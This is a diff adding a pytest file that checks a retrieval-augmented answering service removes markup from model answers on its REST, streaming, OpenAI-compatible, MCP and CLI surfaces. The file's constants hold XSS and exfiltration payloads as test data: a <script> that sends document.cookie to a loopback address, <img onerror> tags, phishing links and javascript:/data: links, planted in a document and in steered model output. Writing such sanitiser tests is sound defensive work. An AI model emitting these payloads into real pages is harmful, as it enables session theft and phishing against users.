@@ -1,0 +1,249 @@
+"""Answers carry text and citations only (issue 35, problem 2; problem 13 for Markdown's <script>).
+
+A planted `.txt` document holds an `<img>` that loads a loopback address, an `<iframe>` and a
+`javascript:` link; a steered model (an OpenAI-compatible server on 127.0.0.1, read by the real
+provider; the Gemini fake for Gemini) answers with `<img>`, `<script>`, a phishing link and an
+image carrying a secret in its address. The answer is made plain once, by the synthesizer before
+it is stored; each surface is then checked at its edge, as a client reads it: `/v1/queries` (the
+record the page renders) and its SSE events, `/v1/chat/completions` through the `openai` SDK
+(whole and streamed), MCP `ask` through the `mcp` SDK, and `ragbus ask` in a subprocess.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+from pathlib import Path
+
+import anyio
+import httpx
+import openai
+import pytest
+
+from services.cleaner.handler import extract_markdown
+from services.gateway.server import serve
+from services.synthesizer.handler import number_citations
+from shared.contract.config import load_settings
+from shared.contract.messages import QueryTransformed
+from shared.contract.ports import Answer, AnswerSentence
+from shared.ingest.files import ingest_path
+from shared.query.plain_answer import plain_answer_text
+from shared.runtime.bootstrap import build_local
+from shared.runtime.local import LocalRuntime
+from tests.integration.fake_openai import FakeOpenAI, Reply
+from tests.support import mcp_session, mcp_structured, run_cli
+
+SOURCE = "https://example.org/blimp"
+LEAK = "127.0.0.1:9"  # where every planted address points: none may reach a surface
+PLANTED = (
+    "Blimp buffer notes\n\n"
+    f'The blimp buffer size is 512 KB <img src="http://{LEAK}/leak" width=1> on every blimp node. '
+    f'The blimp buffer is described in <iframe src="http://{LEAK}/frame">the frame</iframe> the manual. '
+    "Read the [docs](javascript:alert(1)) about the blimp buffer before tuning it.\n"
+)
+QUESTION = "What is the blimp buffer size?"
+STEERED = [
+    f'The blimp buffer size is 512 KB <img src="http://{LEAK}/pixel" onerror="alert(1)">.',
+    f"<script>fetch('http://{LEAK}/x?'+document.cookie)</script>It is set on every blimp node.",
+    f"Read more about the blimp buffer [here](http://{LEAK}/phish).",
+    f"![img](http://{LEAK}/i?d=SECRET) The blimp buffer holds 512 KB.",
+    "The [manual](javascript:alert(document.domain)) and [this](data:text/html;base64,PHNjcmlwdD4=) "
+    "and [that](vbscript:msgbox) describe the blimp buffer.",
+]
+
+
+def assert_plain(text: str, where: str) -> None:
+    """Nothing of the markup reaches ``text``: no tag, image, foreign link or planted address."""
+    assert text, f"{where}: empty"
+    for pattern, what in [
+        (r"<\s*/?\s*(img|iframe|script|svg|a)\b", "an HTML tag"), (r"<[A-Za-z!/?]", "a tag's start"),
+        (r"!\[", "a Markdown image"), (r"\]\(\s*(?!https://example\.org/)", "a Markdown link elsewhere"),
+        (r"(?i)javascript:|vbscript:|data:text", "a script address"), (re.escape(LEAK), "the planted address"),
+        ("SECRET|document\\.cookie|alert\\(|fetch\\(", "the planted code or secret"),
+    ]:
+        assert not re.search(pattern, text), f"{where} shows {what}: {text!r}"
+
+
+# ------------------------------------------------------------------ the sanitiser itself
+
+
+@pytest.mark.parametrize("dirty,clean", [
+    ('512 KB <img src="http://h/leak" width=1> here.', "512 KB here."),
+    ("A <IMG SRC=http://h/x> b", "A b"),
+    ('A <iframe src="http://h/f">fallback</iframe> b', "A b"),
+    ("A <script>fetch('http://h?'+document.cookie)</script>b", "A b"),
+    ("A <script src=http://h/x.js></script> b <style>p{background:url(http://h)}</style>c", "A b c"),
+    ('A <svg onload="alert(1)"><image href="http://h/i"/></svg> b', "A b"),
+    ("A <!-- <img src=http://h> --> b", "A b"),
+    ("A <a href=\"http://h/phish\" onclick='x()'>click</a> b", "A click b"),
+    ("A <img src=x onerror=alert(1)", "A < img src=x onerror=alert(1)"),  # never closes into a tag later
+    ("![img](http://h/i?d=SECRET) text", "text"),
+    ('![img](<http://h/i> "t") text ![ref][r]', "text"),
+    ("[here](http://h/phish) and [docs](javascript:alert(1))", "here and docs"),
+    ("[d](data:text/html;base64,AAA) [v](vbscript:msgbox) [j](JaVaScRiPt:x)", "d v j"),
+    ("[r]: http://h/phish", ""),
+    ("see <http://h/x> and <javascript:alert(1)>", "see `http://h/x` and javascript:alert(1)"),
+    ("see http://h/phish. or www.h.example/x", "see `http://h/phish`. or `www.h.example/x`"),
+    (f"[the source]({SOURCE}) and {SOURCE}.", f"[the source]({SOURCE}) and {SOURCE}."),
+    (f"<{SOURCE}> stays", f"<{SOURCE}> stays"),
+    ("x < y and y > z; 1<2", "x < y and y > z; 1<2"),
+])
+def test_an_answer_sentence_is_made_plain(dirty, clean):
+    assert plain_answer_text(dirty, [SOURCE]) == clean
+
+
+def test_a_link_to_a_source_that_is_not_http_is_not_kept():
+    assert plain_answer_text("[x](javascript:alert(1))", ["javascript:alert(1)"]) == "x"
+
+
+def test_a_sentence_of_markup_only_is_dropped_and_cites_nothing():
+    contexts = [{"url": SOURCE, "document_id": "d1", "chunk_id": "c1", "title": "Blimp"},
+                {"url": "https://example.org/other", "document_id": "d2", "chunk_id": "c2", "title": "Other"}]
+    answer = Answer(text="", sentences=[
+        AnswerSentence('<img src="http://h/x">', [2]),
+        AnswerSentence(f"It is 512 KB, see [the notes]({SOURCE}) and [other](https://example.org/elsewhere).", [1])])
+    text, sentences, citations = number_citations(answer, contexts)
+    assert text == f"It is 512 KB, see [the notes]({SOURCE}) and other. [1]"
+    assert [c["url"] for c in citations] == [SOURCE] and sentences == [
+        {"text": f"It is 512 KB, see [the notes]({SOURCE}) and other.", "citations": [1]}]
+
+
+def test_a_gemini_answer_is_stored_plain():
+    from google import genai
+    from google.genai import types
+
+    from shared.adapters.gcp.gemini import GeminiLanguageModel
+    from shared.contract.config import DEFAULT_GEMINI_MODEL
+    from tests.integration.fake_gemini import FakeGemini
+    from tests.unit.loop_fakes import CORPUS, make_loop
+
+    with FakeGemini() as server:
+        llm = GeminiLanguageModel(genai.Client(api_key="test", http_options=types.HttpOptions(base_url=server.url)),
+                                  DEFAULT_GEMINI_MODEL)
+        server.reply(json.dumps({"score": 0.9, "relevance": 0.9, "completeness": 0.9, "grounded": True,
+                                 "answerable": True, "reasoning": "context 1 says it"}))
+        server.reply(json.dumps({"abstained": False, "sentences": [
+            {"text": s.replace("blimp buffer", "fusion"), "citations": [1]} for s in STEERED]}))
+        loop = make_loop(CORPUS, llm)
+        loop.submit("how does reciprocal rank fusion work")
+        loop.deliver(loop.run_up_to("synthesizer", QueryTransformed(query_id="q1", iteration=0,
+                                                                    query="reciprocal rank fusion")))
+    record = loop.record()
+    assert record["answer_provider"] == "gemini" and "512 KB" in record["answer"]
+    assert_plain(record["answer"], "the stored Gemini answer")
+    for sentence in record["answer_sentences"]:
+        assert_plain(sentence["text"], "a stored Gemini sentence")
+
+
+# ------------------------------------------------------------------ problem 13: a Markdown document's <script>
+
+
+@pytest.mark.parametrize("markdown", [
+    "# Notes\n\nBefore.\n\n<script>\nvar token = 1; alert('QUOTED')\n</script>\n\nAfter.",
+    "Before <script>alert('QUOTED')</script> after.",
+    "<div>\n<script>\n\nalert('QUOTED')\n\n</script>\n</div>\n\nAfter.",
+    "Before <style>p { background: url(http://QUOTED) }</style> after.",
+    "Before.\n\n<iframe src='http://h'>\nQUOTED fallback\n</iframe>\n\nAfter.",
+])
+def test_the_code_of_a_markdown_documents_script_is_not_kept_as_text(markdown):
+    body = extract_markdown(markdown).body
+    assert "QUOTED" not in body and "after" in body.lower()
+
+
+# ------------------------------------------------------------------ every surface, each provider
+
+
+def _synthesis_reply(body: dict) -> Reply:
+    prompt = body["messages"][-1]["content"]
+    if prompt.startswith("Rewrite the user's question"):
+        return Reply(json.dumps({"rewritten": "blimp buffer size", "sub_queries": [], "reasoning": "as asked"}))
+    if prompt.startswith("Grade how well"):
+        return Reply(json.dumps({"score": 0.9, "relevance": 0.9, "completeness": 0.9, "grounded": True,
+                                 "answerable": True, "reasoning": "context 1 states it"}))
+    if prompt.startswith("Answer the question"):
+        return Reply(json.dumps({"abstained": False, "sentences": [{"text": s, "citations": [1]} for s in STEERED]}))
+    return Reply(status=400, raw=json.dumps({"error": {"message": f"unexpected prompt {prompt[:60]!r}"}}))
+
+
+@pytest.fixture(scope="module", params=["local", "openai"])
+def planted(request, tmp_path_factory):
+    """A home holding the planted document, its runtime and gateway, answered by ``param``'s provider."""
+    root = tmp_path_factory.mktemp(f"planted-{request.param}")
+    docs = root / "docs"
+    docs.mkdir()
+    (docs / "blimp.txt").write_text(PLANTED)
+    env = {"RAGBUS_HOME": str(root / "home")}
+    with FakeOpenAI(responder=_synthesis_reply) as model:
+        if request.param == "openai":
+            env |= {"RAGBUS_LLM": "openai", "RAGBUS_OPENAI_BASE_URL": model.url, "RAGBUS_OPENAI_MODEL": "tiny-model"}
+        local = build_local(load_settings(env))
+        with LocalRuntime(local.deps, local.bus) as runtime:
+            ingest_path(docs, state=local.deps.state, blobs=local.deps.blobs, publisher=local.deps.publisher,
+                        clock=local.deps.clock)
+            assert runtime.wait_idle(120)
+            server = serve(local.deps, "127.0.0.1", 0)
+            try:
+                yield request.param, server.url, env
+            finally:
+                server.stop()
+
+
+def _provider_answered(record: dict, provider: str) -> None:
+    assert record["status"] == "answered" and "512 KB" in record["answer"], record
+    assert record["answer_provider"] == ("openai" if provider == "openai" else record["answer_provider"])
+
+
+def test_rest_and_its_events_show_plain_text(planted):
+    provider, url, _ = planted
+    record = httpx.post(f"{url}/v1/queries", json={"question": QUESTION, "wait_s": 90}, timeout=120).json()
+    _provider_answered(record, provider)
+    stored = httpx.get(f"{url}/v1/queries/{record['id']}", timeout=10).json()  # what the page renders
+    for shown in (record, stored):
+        assert_plain(shown["answer"], "/v1/queries")
+        for sentence in shown["answer_sentences"]:
+            assert_plain(sentence["text"], "/v1/queries answer_sentences")
+    with httpx.stream("GET", f"{url}/v1/queries/{record['id']}/events", timeout=30) as events:
+        stream = "".join(events.iter_text())
+    events = [json.loads(line[len("data: "):]) for line in stream.splitlines() if line.startswith("data: ")]
+    (end,) = [e for e in events if "answer" in e]
+    assert "512 KB" in end["answer"] and len(events) > 3
+    # the answer and every stage's line; the retrieved contexts are the documents' own text, shown as such
+    for shown in [end["answer"], *(s["text"] for s in end["answer_sentences"]), *(e.get("detail", "") for e in events)]:
+        assert_plain(shown or "-", "the SSE events")
+
+
+def test_chat_completions_whole_and_streamed_show_plain_text(planted):
+    provider, url, _ = planted
+    client = openai.OpenAI(base_url=f"{url}/v1", api_key="not-needed", max_retries=0, timeout=120)
+    whole = client.chat.completions.create(model="ragbus", messages=[{"role": "user", "content": QUESTION}])
+    content = whole.choices[0].message.content
+    answer = content.split("\n\nSources:\n")[0]
+    assert "512 KB" in answer and whole.model_extra["ragbus"]["outcome"] != "not_answerable"
+    assert_plain(answer, "/v1/chat/completions")
+    stream = client.chat.completions.create(model="ragbus", stream=True,
+                                            messages=[{"role": "user", "content": QUESTION}])
+    streamed = "".join(c.choices[0].delta.content or "" for c in stream if c.choices)
+    assert "512 KB" in streamed
+    assert_plain(streamed.split("\n\nSources:\n")[0], "/v1/chat/completions streamed")
+
+
+def test_mcp_ask_shows_plain_text(planted):
+    provider, url, _ = planted
+
+    async def ask() -> dict:
+        async with mcp_session(f"{url}/mcp") as session:
+            return mcp_structured(await session.call_tool("ask", {"question": QUESTION}))
+
+    result = anyio.run(ask)
+    assert "512 KB" in result["answer"], result
+    assert_plain(result["answer"], "MCP ask")
+    for sentence in result.get("answer_sentences") or []:
+        assert_plain(sentence["text"], "MCP ask's sentences")
+
+
+def test_the_cli_shows_plain_text(planted):
+    provider, _, env = planted
+    extra = {k: v for k, v in env.items() if k != "RAGBUS_HOME"}
+    shown = run_cli(Path(env["RAGBUS_HOME"]), "ask", QUESTION, timeout=300, **extra)
+    assert "512 KB" in shown.stdout, shown.stdout + shown.stderr[-2000:]
+    assert_plain(shown.stdout, "ragbus ask")
